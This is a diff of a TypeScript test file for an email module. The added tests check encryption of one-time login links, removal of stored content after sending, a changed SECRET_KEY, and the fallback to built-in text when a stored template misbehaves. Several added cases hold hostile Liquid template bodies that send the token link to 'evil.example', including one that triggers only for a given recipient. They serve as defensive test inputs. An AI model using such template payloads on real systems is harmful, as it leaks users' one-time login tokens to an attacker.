@@ -1,18 +1,27 @@
+import { sql } from 'kysely'
 import PostalMime, { type Email } from 'postal-mime'
 import { SMTPServer } from 'smtp-server'
 import { afterAll, afterEach, expect, it, vi } from 'vitest'
+import { aMail } from '#test/builders/mail'
 import { createTestDatabase } from '#test/database'
+import { TEST_SECRET_KEY } from '#test/secret-key'
 import { settableClock } from '../clock.ts'
+import { createEncryption } from '../encryption.ts'
 import { createFigures } from '../health/figures.ts'
 import { newId } from '../ids.ts'
 import { createJobs } from '../jobs/create-jobs.ts'
 import { createLog } from '../log.ts'
+import { createWorkerPool } from '../worker-pool.ts'
+import { decryptContent } from './content.ts'
 import { createMail, type MailOptions } from './create-mail.ts'
+import { SLOW_TEMPLATE } from './testing/slow-template.ts'
 
 const { db, url, drop } = await createTestDatabase()
 const lines: string[] = []
 const log = createLog('info', { write: (line) => lines.push(line) })
 const clock = settableClock(new Date('2026-03-10T09:00:00Z'))
+const encryption = createEncryption(TEST_SECRET_KEY)
+const workers = createWorkerPool()
 const ends: (() => Promise<void> | void)[] = []
 
 const welcome = {
@@ -22,7 +31,7 @@ const welcome = {
   body: '<p>Dear {{ name }},</p><p><a class="button" href="{{ link }}">Begin</a></p>',
   variables: {
     name: { description: 'Who', sample: 'Robin' },
-    link: { description: 'Where', sample: 'https://stays.example/begin?token=abc' },
+    link: { description: 'Where', sample: 'https://stays.example/begin?token=abc', isOneTimeLink: true },
   },
 }
 const link = 'https://stays.example/begin?token=s3cret'
@@ -74,7 +83,17 @@ async function mailServer(answers: number[] = [], recipientAnswer?: number) {
 async function start(smtpUrl: string | undefined, more: Partial<MailOptions> = {}) {
   const jobs = createJobs({ databaseUrl: url, log, figures: createFigures(), clock, pollSeconds: 0.5 })
   const config = { smtpUrl, mailFrom: 'Sojourn <post@stays.example>', publicUrl: 'https://stays.example' }
-  const mail = createMail({ db, jobs, config, clock, log, templates: [welcome], ...more })
+  const mail = createMail({
+    db,
+    jobs,
+    config,
+    clock,
+    log,
+    encryption,
+    workers,
+    templates: [welcome],
+    ...more,
+  })
   await jobs.start(mail.jobs(), { work: true })
   ends.unshift(async () => {
     await jobs.stop()
@@ -83,6 +102,8 @@ async function start(smtpUrl: string | undefined, more: Partial<MailOptions> = {
   return { mail, jobs }
 }
 
+const contentOf = (row: { encrypted_content: string | null } | undefined) =>
+  decryptContent(encryption, row?.encrypted_content ?? '')
 const rows = () => db.selectFrom('mail').selectAll().orderBy('mail_id').execute()
 const inState = (state: string) =>
   vi.waitFor(async () => expect((await rows()).map((row) => row.state)).toEqual([state]), { timeout: 10_000 })
@@ -93,7 +114,10 @@ afterEach(async () => {
   await db.deleteFrom('email_template').execute()
   lines.length = 0
 })
-afterAll(drop)
+afterAll(async () => {
+  await workers.stop()
+  await drop()
+})
 
 it('sends an email once, in both forms, and keeps no way in', async () => {
   const { received, smtpUrl } = await mailServer()
@@ -163,7 +187,55 @@ it('waits longer from try to try when the mail server is not there', async () =>
   const [row] = await rows()
   expect(row).toMatchObject({ state: 'queued' })
   expect(row?.last_error).toContain('ECONNREFUSED')
-  expect(row?.text).toContain('s3cret')
+  expect(contentOf(row).text).toContain('s3cret')
+})
+
+it('stores a one-time link encrypted until the email is sent, and never in a job', async () => {
+  const { mail } = await start('smtp://127.0.0.1:1')
+  await mail.send(db, request)
+  const [queued] = await rows()
+  expect(JSON.stringify(queued)).not.toContain('s3cret')
+  expect(queued?.text).toContain('Begin: https://stays.example/begin?token=…')
+  expect(queued?.html).toContain('href="https://stays.example/begin?token=…"')
+  expect(contentOf(queued).html).toContain(`href="${link}"`)
+  const { rows: jobs } = await sql`select data from pgboss.job`.execute(db)
+  expect(JSON.stringify(jobs)).not.toContain('s3cret')
+})
+
+it('removes the encrypted content of an email that was sent or has failed', async () => {
+  const { smtpUrl } = await mailServer()
+  const { mail } = await start(smtpUrl)
+  await mail.send(db, request)
+  await inState('sent')
+  expect((await rows())[0]).toMatchObject({
+    encrypted_content: null,
+    text: expect.stringContaining('token=…'),
+  })
+})
+
+it('marks an email as failed when SECRET_KEY has changed', async () => {
+  const { smtpUrl } = await mailServer()
+  const { mail } = await start(smtpUrl, { encryption: createEncryption('another key of thirty-two bytes!') })
+  await mail.send(db, request)
+  await inState('sent')
+  await db
+    .updateTable('mail')
+    .set({ encrypted_content: encryption.encrypt('mail', '{}') })
+    .execute()
+  const [sent] = await rows()
+  await mail.requeue(db, sent?.mail_id ?? '')
+  await inState('failed')
+  expect((await rows())[0]?.last_error).toContain('SECRET_KEY')
+})
+
+it('sends an email that an earlier release stored without encryption', async () => {
+  const { received, smtpUrl } = await mailServer()
+  const { mail } = await start(smtpUrl)
+  const { mail_id } = await aMail(db, { state: 'failed', text: link, html: `<a href="${link}">Begin</a>` })
+  await mail.requeue(db, mail_id)
+  await inState('sent')
+  expect(received[0]?.mail.text).toContain(link)
+  expect(JSON.stringify(await rows())).not.toContain('s3cret')
 })
 
 it('keeps an email when there is no mail server', async () => {
@@ -171,7 +243,7 @@ it('keeps an email when there is no mail server', async () => {
   await mail.send(db, request)
   const [kept] = await rows()
   expect(kept).toMatchObject({ state: 'kept', attempts: 0, to_address: 'robin@example.test' })
-  expect(kept?.text).toContain(link)
+  expect(contentOf(kept).text).toContain(link)
 })
 
 it('sends nothing when the change was rolled back', async () => {
@@ -210,7 +282,7 @@ it('does not send people elsewhere', async () => {
     )
 })
 
-const change = (subject: string) =>
+const change = (subject: string, body = '<p>Changed</p>') =>
   db
     .insertInto('email_template')
     .values({
@@ -218,7 +290,7 @@ const change = (subject: string) =>
       key: 'welcome',
       name: 'Welcome',
       subject,
-      body: '<p>Changed</p>',
+      body,
       created_at: clock.now(),
       updated_at: clock.now(),
     })
@@ -237,7 +309,48 @@ it('falls back to the words it came with when the changed ones fit no longer', a
   await change('Hello {{ nickname }}')
   await mail.send(db, request)
   expect((await rows())[0]).toMatchObject({ subject: 'Welcome, Robin' })
-  expect(lines.join('')).toContain('a changed email template cannot be sent any more')
+  expect(lines.join('')).toContain('a changed email template cannot be sent')
+})
+
+it.each([
+  ['filters it in the subject', '{{ link | split: "token=" | last }}', '<p>x</p>'],
+  ['sends it to another host', 'Hello', '<p><a href="https://evil.example/?x={{ link }}">x</a></p>'],
+  [
+    'attaches it to an address when the name is Robin',
+    'Hello',
+    '<p>{% if name == "Robin" %}https://evil.example/?x={% endif %}{{ link }}</p>',
+  ],
+])('falls back to the built-in text when a stored template %s', async (_what, subject, body) => {
+  const { mail } = await start(undefined)
+  await change(subject, body)
+  await mail.send(db, request)
+  const [row] = await rows()
+  expect(row).toMatchObject({ subject: 'Welcome, Robin' })
+  expect(contentOf(row).text).toContain(`Begin: ${link}`)
+  expect(lines.join('')).toContain('a changed email template cannot be sent')
+  expect(lines.join('')).not.toContain('s3cret')
+})
+
+it('falls back to the built-in text when a stored template takes too long', async () => {
+  const { mail } = await start(undefined, {
+    templates: [{ ...welcome, variables: { name: welcome.variables.name }, body: '<p>{{ name }}</p>' }],
+  })
+  await change('Hello', SLOW_TEMPLATE)
+  await mail.send(db, { ...request, variables: { name: 'Robin' } })
+  expect((await rows())[0]).toMatchObject({ subject: 'Welcome, Robin' })
+})
+
+it('sends no real token to a preview or a test', async () => {
+  const { mail } = await start(undefined)
+  const preview = await mail.preview(db, welcome, welcome.variables)
+  expect(preview.text).toContain('Begin: https://stays.example/begin?token=abc')
+})
+
+it('rejects values that carry a token without declaring a one-time link', async () => {
+  const { mail } = await start(undefined)
+  const homeLink = 'https://stays.example/?token=s3cret'
+  const variables = { ...request.variables, homeLink }
+  await expect(mail.send(db, { ...request, variables })).rejects.toThrow('isOneTimeLink')
 })
 
 it('shows the programme’s logo where everybody can fetch it', async () => {
